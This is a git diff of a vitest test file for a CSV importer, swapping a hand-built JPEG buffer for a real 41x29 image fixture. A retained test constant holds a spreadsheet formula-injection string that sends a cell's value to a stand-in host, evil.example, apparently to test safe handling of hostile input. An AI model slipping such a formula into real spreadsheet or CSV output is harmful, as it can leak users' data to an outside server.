@@ -1,5 +1,7 @@
+import { readFileSync } from 'node:fs';
 import { copyFile, mkdir, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
 import { basename, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { afterAll, afterEach, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { importCsvFile } from '../../src/main/core/import';
@@ -9,7 +11,8 @@ import { SAMPLE_TALL, SAMPLE_WIDE, TempDirs, makeSidecar } from './helpers';
 const temp = new TempDirs();
 afterAll(() => temp.cleanup());
 
-const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]);
+// A real (tiny) JPEG: the importer reads its width and height when the manifest comes back.
+const JPEG = readFileSync(fileURLToPath(new URL('../fixtures/images/baseline-41x29.jpg', import.meta.url)));
 const NASTY_PROMPT = '=HYPERLINK("http://evil.example/?x="&A1, "click"), then a robot says "hi",\nline two';
 
 async function addVideo(root: string, rel: string, sidecar?: Sidecar, sample = SAMPLE_WIDE): Promise<void> {
